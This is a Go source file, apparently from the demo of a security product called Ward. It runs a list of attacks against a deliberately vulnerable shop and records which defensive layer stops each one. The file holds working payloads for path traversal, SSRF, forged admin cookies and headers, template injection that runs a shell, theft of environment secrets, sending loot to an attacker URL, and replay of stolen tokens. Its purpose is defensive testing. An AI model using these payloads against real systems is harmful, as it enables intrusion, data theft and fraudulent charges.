package demo

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"

	"github.com/wardhq/ward/internal/demo/shop"
)

// attack is one way to abuse the shop. try makes it for real; it doesn't know whether the
// shop is guarded.
type attack struct {
	name string
	hole string
	try  func(context.Context, *world) Result
}

// attacks are all, in the order of the table.
func attacks() []attack {
	return slices.Concat(fromOutside(), onSecrets(), fromInside())
}

// fromOutside are attacks that need only a browser.
func fromOutside() []attack {
	return []attack{
		{name: "read visitor statistics", hole: "header as the only guard", try: func(ctx context.Context, w *world) Result {
			return w.outside(ctx, "visits", "/internal/stats", "X-Internal", "true")
		}},
		{name: "read web's process", hole: "open pprof", try: func(ctx context.Context, w *world) Result {
			return w.outside(ctx, ServiceVerb, "/debug/pprof/cmdline")
		}},
		{name: "read orders by a /static path", hole: "path traversal", try: func(ctx context.Context, w *world) Result {
			return w.outside(ctx, victim, "/static/..%2f..%2fdb%2fdata%2forders.json")
		}},
		{name: "read orders by a /docs parameter", hole: "path traversal", try: func(ctx context.Context, w *world) Result {
			return w.sure(ordersFile, w.outside(ctx, victim, "/docs?file=../../../"+ordersFile))
		}},
		{name: "read orders by the cover preview", hole: "request forgery (SSRF)", try: func(ctx context.Context, w *world) Result {
			return w.forge(ctx, victim, "http://"+w.address("orders")+"/internal/export")
		}},
		{name: "read catalog's process by preview", hole: "open pprof", try: func(ctx context.Context, w *world) Result {
			return w.forge(ctx, ServiceVerb, "http://"+w.address("catalog")+"/debug/pprof/cmdline")
		}},
		{name: "make web call the attacker", hole: "free egress", try: func(ctx context.Context, w *world) Result {
			return w.forge(ctx, "thank you", w.out.lootURL("web"))
		}},
		{name: "become administrator", hole: "forgeable cookie", try: func(ctx context.Context, w *world) Result {
			return w.outside(ctx, victim, "/admin", "Cookie", "role=cm9sZT1hZG1pbg==")
		}},
		{name: "become administrator by a field", hole: "header as the only guard", try: func(ctx context.Context, w *world) Result {
			return w.outside(ctx, victim, "/admin", "X-Ward-User-Groups", "staff", "X-Ward-User-Email", "boss@example.com")
		}},
		{name: "read another customer's order", hole: "object reference", try: readOrder},
	}
}

// fromInside are attacks after mailer was taken over, by an order with a note that its
// template engine executes.
func fromInside() []attack {
	return []attack{
		{name: "mailer: run a shell", hole: "template injection", try: runShell},
		{name: "mailer: charge a card", hole: "payments trusts anybody", try: func(ctx context.Context, w *world) Result {
			return w.intrude(ctx, "ch_", errand{Charge: w.address("payments")})
		}},
		{name: "mailer: read orders on disk", hole: "one user for all", try: func(ctx context.Context, w *world) Result {
			return w.sure(ordersFile, w.intrude(ctx, victim, errand{Read: "../" + ordersFile}))
		}},
		{name: "mailer: change catalog on disk", hole: "one user for all", try: func(ctx context.Context, w *world) Result {
			return w.sure(booksFile, w.intrude(ctx, "written", errand{Write: "../" + booksFile}))
		}},
		{name: "mailer: take the key of payments", hole: "password in environment", try: func(ctx context.Context, w *world) Result {
			return w.intrude(ctx, w.secrets[cardsKey], errand{Hunt: "CARDS_API_KEY"})
		}},
		{name: "mailer: log in to the database", hole: "password in environment", try: func(ctx context.Context, w *world) Result {
			return w.intrude(ctx, victim, errand{Login: fmt.Sprintf("postgres://shop:%s@%s/shop", w.secrets[dbPassword], w.address("db"))})
		}},
		{name: "mailer: send loot outside", hole: "free egress", try: sendLoot},
		{name: "mailer: act as a customer", hole: "user's token passed on", try: actAsVictim},
	}
}

// Files of services, from the shop's folder.
const (
	ordersFile = "db/data/orders.json"
	booksFile  = "catalog/data/books.json"
)

// sure takes a layer back from an attempt on a file that isn't there: then nothing was stopped.
func (w *world) sure(file string, r Result) Result {
	if _, err := os.Stat(filepath.Join(w.dir, file)); err != nil {
		return Result{Evidence: err.Error()}
	}
	return r
}

// outside fetches a target from outside; the attack succeeds if the answer holds want.
func (w *world) outside(ctx context.Context, want, target string, fields ...string) Result {
	r, err := w.get(ctx, target, fields...)
	if err != nil {
		return Result{Evidence: err.Error()}
	}
	return judgePage(r, want, "gateway")
}

// forge lets web fetch a URL.
func (w *world) forge(ctx context.Context, want, target string) Result {
	r, err := w.get(ctx, "/cover?url="+url.QueryEscape(target), "X-Internal", "true")
	if err != nil {
		return Result{Evidence: err.Error()}
	}
	return judgePage(r, want, "agent")
}

// judgePage tells what an answer means; who is the part of Ward that a refusal comes from.
func judgePage(r reply, want, who string) Result {
	if r.status == http.StatusOK && strings.Contains(r.body, want) {
		return Result{Succeeded: true, Evidence: words(found(r.body, want))}
	}
	out := Result{Evidence: words(fmt.Sprintf("status %d: %s", r.status, r.body))}
	public, ok := wardSays(r)
	if r.url != nil && strings.HasPrefix(r.url.Host, "id.") {
		public, ok = "sign in first", true // led to the pages
	}
	if ok && r.status == http.StatusBadRequest {
		public = "ambiguous request refused"
	}
	if ok {
		out.Layer = who + ": " + public
	} else if r.status == http.StatusNotFound || r.status == http.StatusBadGateway {
		out.Layer = wallOf(errors.New(r.body)).layer()
	}
	return out
}

// found is the part of a text around what was looked for.
func found(s, want string) string {
	i := strings.Index(s, want)
	return strings.ReplaceAll(s[max(0, i-40):min(len(s), i+len(want)+60)], "\x00", " ")
}

// wardSays recognises a refusal by Ward: a page of a fixed form, with an identifier of the denial
// unless the request was malformed.
func wardSays(r reply) (string, bool) {
	lines := strings.Split(strings.TrimSpace(r.body), "\n")
	if len(lines) < 2 || lines[0] != fmt.Sprintf("%d %s", r.status, http.StatusText(r.status)) {
		return "", false
	}
	denied := len(lines) == 3 && strings.HasPrefix(lines[2], "id: ")
	return lines[1], denied || len(lines) == 2 && r.status == http.StatusBadRequest
}

// layer names the part of the sandbox that the wall is.
func (w wall) layer() string {
	switch w {
	case wallName:
		return "sandbox: the name isn't granted"
	case wallRoute:
		return "sandbox: no route out"
	case wallPort:
		return "sandbox: the port isn't granted"
	case wallFile:
		return "sandbox: private root"
	case wallProcess:
		return "sandbox: sees no other process"
	}
	return ""
}

func runShell(ctx context.Context, w *world) Result {
	mail, err := w.inject(ctx, `{{run "sh" "-c" "echo taken-$((6*7))"}}`)
	switch {
	case err != nil:
		return Result{Evidence: err.Error()}
	case strings.Contains(mail, "taken-42"):
		return Result{Succeeded: true, Evidence: "the shell says taken-42"}
	}
	_, said, _ := strings.Cut(mail, "Your note: ")
	out := Result{Evidence: words(said)}
	if strings.Contains(said, "not found") || strings.Contains(said, "permission denied") || strings.Contains(said, "no such file") {
		out.Layer = "sandbox: only its own program runs"
	}
	return out
}

// intrude runs the attacker's program in mailer; the attack succeeds if it brings want.
func (w *world) intrude(ctx context.Context, want string, e errand) Result {
	b, err := w.send(ctx, e)
	switch {
	case err != nil:
		return Result{Evidence: err.Error()}
	case b.OK && strings.Contains(b.Text, want):
		return Result{Succeeded: true, Evidence: words(found(b.Text, want))}
	}
	return Result{Layer: b.Error.layer(), Evidence: words(b.Text)}
}

// sendLoot counts only what arrives.
func sendLoot(ctx context.Context, w *world) Result {
	mark := "mailer-" + strings.NewReplacer(":", "-", "/", "").Replace(w.base)
	r := w.intrude(ctx, "thank you", errand{Get: w.out.lootURL(mark)})
	if r.Succeeded = w.out.has(mark); r.Succeeded {
		r.Layer = ""
	}
	return r
}

// readOrder signs in as another customer and asks for the victim's first order.
func readOrder(ctx context.Context, w *world) Result {
	if err := w.signIn(ctx, w, mallory); err != nil {
		return Result{Evidence: err.Error()}
	}
	return w.outside(ctx, "Quay Street", "/api/orders/"+victim+"/1001")
}

// actAsVictim takes the tokens of customers that came to mailer, and uses them from outside.
func actAsVictim(ctx context.Context, w *world) Result {
	b, err := w.send(ctx, errand{Read: "data/outbox.json"})
	if err != nil {
		return Result{Evidence: err.Error()}
	}
	var mails []struct {
		Value shop.Mail `json:"value"`
	}
	if err := json.Unmarshal([]byte(b.Text), &mails); err != nil {
		return Result{Layer: b.Error.layer(), Evidence: words(b.Text)}
	}
	for _, m := range mails {
		if m.Value.To == victim && m.Value.Token != "" {
			return w.anew().outside(ctx, `"user":"`+victim+`"`, "/account", "Authorization", m.Value.Token)
		}
	}
	return Result{Evidence: "no customer's token came to mailer"}
}
